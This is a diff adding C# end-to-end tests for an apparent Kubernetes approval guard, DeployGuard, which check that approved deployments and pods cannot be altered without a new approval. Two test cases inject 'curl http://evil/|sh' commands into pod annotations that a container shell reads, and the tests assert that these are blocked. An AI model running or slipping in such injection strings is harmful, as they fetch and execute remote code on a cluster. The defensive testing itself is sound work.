@@ -1,0 +1,101 @@
+using System.Text.Json.Nodes;
+using static DeployGuard.EndToEnd.Sandbox;
+
+namespace DeployGuard.EndToEnd;
+
+/// <summary>The same hash means the same behaviour: what an approved template reads, or holds, cannot be changed under its approval.</summary>
+[Parallelizable(ParallelScope.Children)]
+public class SameHashTests
+{
+    private const string TokenMount = """ "volumeMounts": [{"name": "kube-api-access-x", "mountPath": "/var/run/secrets/kubernetes.io/serviceaccount", "readOnly": true}], """;
+
+    private const string TokenVolume = """
+        "volumes": [{"name": "kube-api-access-x", "projected": {"sources": [
+          {"serviceAccountToken": {"path": "token", "expirationSeconds": 86400}}, {"configMap": {"name": "kube-root-ca.crt"}},
+          {"downwardAPI": {"items": [{"path": "namespace", "fieldRef": {"fieldPath": "metadata.annotations"}}]}}]}}],
+        """;
+
+    [TestCase("deployguard.io/run", "x; curl http://evil/|sh #")]
+    [TestCase("kubectl.kubernetes.io/restartedAt", "$(curl http://evil/|sh)")]
+    public async Task AnnotationsThatThePodsReadCannotBeChangedUnderAnApproval(string key, string value)
+    {
+        var sandbox = await ApprovedAsync(Reader());
+        var patch = new JsonObject
+        {
+            ["spec"] = new JsonObject { ["template"] = new JsonObject { ["metadata"] = new JsonObject { ["annotations"] = new JsonObject { [key] = value } } } },
+        };
+
+        var run = await sandbox.KubectlAsync("dana", "patch", "deployment", "web", "--type=merge", "-p", patch.ToJsonString());
+
+        Assert.That(run.Output, Does.Contain("ApprovalMissing"));
+        var pods = (await sandbox.KubectlAsync("dana", "get", "deployment,replicasets,pods", "-o", "jsonpath={.items[*].metadata.annotations}{.items[*].spec.template.metadata.annotations}")).OrFail();
+        Assert.That(pods.Output, Does.Not.Contain("evil"));
+    }
+
+    [Test]
+    public async Task ARestartOfWhatReadsItsAnnotationsIsARestart()
+    {
+        var sandbox = await ApprovedAsync(Reader());
+
+        (await sandbox.KubectlAsync("dana", "rollout", "restart", "deployment/web")).OrFail();
+        (await sandbox.KubectlAsync("admin", "rollout", "status", "deployment/web", "--timeout=180s")).OrFail();
+
+        var phases = (await sandbox.KubectlAsync("admin", "get", "changes", "-o", "jsonpath={.items[*].spec.workload.name}")).OrFail();
+        Assert.That(phases.Output, Is.EqualTo("web"), "it is the revision that was approved");
+    }
+
+    [Test]
+    public async Task AnApprovalOfAPodWithoutATokenIsNotOneOfAPodWithAToken()
+    {
+        var sandbox = await GuardedAsync();
+        Assert.That((await sandbox.CreateAsync("dana", Pod("", ""))).Output, Does.Contain("ApprovalMissing"));
+        (await sandbox.ApproveAsync("alice", await sandbox.ChangeInPhaseAsync("Pending"))).OrFail();
+
+        var run = await sandbox.CreateAsync("dana", Pod(TokenMount, TokenVolume));
+
+        Assert.That(run.Output, Does.Contain("ApprovalMissing"));
+        Assert.That((await sandbox.KubectlAsync("dana", "get", "pods", "-o", "name")).Output, Is.Empty);
+        (await sandbox.CreateAsync("dana", Pod("", ""))).OrFail();
+    }
+
+    [Test]
+    public async Task APodIsMadeUnderItsApprovalWhateverAdmissionAddsToIt()
+    {
+        var sandbox = await GuardedAsync();
+        var pod = Parse($$"""{"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "tool"}, "spec": {"containers": [{"name": "c", "image": "{{V1}}"}] } }""");
+        Assert.That((await sandbox.CreateAsync("dana", pod)).Output, Does.Contain("ApprovalMissing"));
+        (await sandbox.ApproveAsync("alice", await sandbox.ChangeInPhaseAsync("Pending"))).OrFail();
+
+        (await sandbox.CreateAsync("dana", pod)).OrFail();
+
+        // Its node is the scheduler's choice: the pod that runs is the one that was approved all the same.
+        await sandbox.ChangeInPhaseAsync("Completed");
+    }
+
+    private static async Task<Sandbox> ApprovedAsync(JsonObject deployment)
+    {
+        var sandbox = await GuardedAsync();
+        Assert.That((await sandbox.ApplyAsync("dana", deployment)).Output, Does.Contain("ApprovalMissing"));
+        (await sandbox.ApproveAsync("alice", await sandbox.ChangeInPhaseAsync("Pending"))).OrFail();
+        (await sandbox.ApplyAsync("dana", deployment)).OrFail();
+        await sandbox.ChangeInPhaseAsync("Completed");
+        return sandbox;
+    }
+
+    /// <summary>Its command is an annotation.</summary>
+    private static JsonObject Reader()
+    {
+        var web = Web(V1, replicas: 1);
+        var template = web["spec"]?["template"]?.AsObject() ?? throw new InvalidOperationException("no template");
+        template["metadata"]!["annotations"] = new JsonObject { ["deployguard.io/run"] = "echo hello" };
+        template["spec"]!["volumes"] = JsonNode.Parse("""[{"name": "podinfo", "downwardAPI": {"items": [{"path": "settings", "fieldRef": {"fieldPath": "metadata.annotations"}}]}}]""");
+        template["spec"]!["containers"]![0]!["volumeMounts"] = JsonNode.Parse("""[{"name": "podinfo", "mountPath": "/etc/podinfo"}]""");
+        template["spec"]!["containers"]![0]!["command"] = JsonNode.Parse("""["sh", "-c", ". /etc/podinfo/settings; exec /app"]""");
+        return web;
+    }
+
+    private static JsonObject Pod(string mounts, string volumes) => Parse($$"""
+        {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "tool"},
+         "spec": {"automountServiceAccountToken": false, {{volumes}} "containers": [{ {{mounts}} "name": "c", "image": "{{V1}}"}] } }
+        """);
+}
